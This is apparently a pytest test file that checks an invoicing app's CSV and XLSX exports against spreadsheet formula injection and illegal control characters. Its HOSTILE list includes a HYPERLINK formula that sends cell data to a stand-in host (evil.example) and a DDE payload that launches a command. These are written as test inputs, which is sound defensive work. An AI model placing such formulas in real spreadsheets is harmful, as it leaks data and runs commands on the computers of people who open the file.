"""Exports never carry a formula (CSV injection, OWASP) nor a character XML forbids, and a legitimate
export still imports back unchanged."""

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook

from cobro.ledger.exporting import csv_cell, write_csv, xlsx_bytes
from cobro.ledger.importing import import_file
from cobro.ledger.models import Customer, Invoice
from cobro.ledger.services import add_invoice

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Pagar")', "-2+3", "+1-1", '@SUM(A1:A9)',
           "\t=1+1", "\r=1+1", "'=already quoted", "=cmd|' /C calc'!A0"]


@pytest.fixture
def hostile_book(org):
    import datetime as dt

    customers = []
    for i, name in enumerate(HOSTILE):
        c = Customer.objects.create(organization=org, ref=f"H-{i}", name=name, country="CL")
        add_invoice(org, c, f"F-{i}", dt.date(2026, 1, 5), dt.date(2026, 2, 4), "USD", 50_000 + i)
        customers.append(c)
    # Written before imports refused control characters: still must not break an export.
    legacy = Customer.objects.create(organization=org, ref="L-1", name="Old\x1b[31m Name\x07", country="CL")
    add_invoice(org, legacy, "F-L", dt.date(2026, 1, 5), dt.date(2026, 2, 4), "USD", 25_000)
    return customers


def test_csv_cells_that_start_like_a_formula_get_an_apostrophe(org, hostile_book):
    out = io.StringIO()
    write_csv(org, "invoices", out)
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    names = {r[0]: r[2] for r in rows[1:]}
    for i, name in enumerate(HOSTILE):
        assert names[f"F-{i}"] == ("\n=1+1" if name == "\r=1+1" else "'" + name)
    assert names["F-L"] == "Old[31m Name"  # ESC and BEL dropped
    amounts = {r[0]: r[6] for r in rows[1:]}
    assert amounts["F-1"] == "500.01"  # numbers stay numbers
    for row in rows[1:]:
        for cell in row:
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r") or cell.lstrip("+-").replace(".", "").isdigit()


def test_numbers_and_phones_are_not_quoted():
    assert csv_cell("-250.00") == "-250.00"
    assert csv_cell("+56911111111") == "+56911111111"
    assert csv_cell("-2+3") == "'-2+3"
    assert csv_cell("=1") == "'=1"
    assert csv_cell("Comercial = Uno") == "Comercial = Uno"
    assert csv_cell(450000) == 450000


def test_xlsx_has_no_formula_cells_and_no_illegal_characters(org, hostile_book):
    data = xlsx_bytes(org, "invoices")
    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml
    assert b"\x1b" not in sheet_xml and b"\x07" not in sheet_xml
    sheet = load_workbook(io.BytesIO(data)).active
    by_ref = {row[0].value: row[2] for row in sheet.iter_rows(min_row=2)}
    for i, name in enumerate(HOSTILE):
        cell = by_ref[f"F-{i}"]
        assert (cell.value, cell.data_type) == (name, "s")
        assert cell.quotePrefix


@pytest.mark.parametrize("form", ["csv", "xlsx"])
def test_round_trip_keeps_hostile_looking_but_legitimate_values(org, other_org, hostile_book, form):
    if form == "csv":
        out = io.StringIO()
        write_csv(org, "invoices", out)
        data = out.getvalue().encode()
    else:
        data = xlsx_bytes(org, "invoices")
    import_file(other_org, "invoices", data)
    got = dict(Customer.objects.for_org(other_org).values_list("ref", "name"))
    # The importer trims cells, so a leading tab or carriage return does not survive any import.
    assert {i: got[f"H-{i}"] for i in range(len(HOSTILE))} == {i: name.strip() for i, name in enumerate(HOSTILE)}
    assert Invoice.objects.for_org(other_org).get(ref="F-1").amount == 50_001
    again = import_file(org, "invoices", data)
    assert (again.created, again.updated, again.unchanged) == (0, 0, len(HOSTILE) + 1)
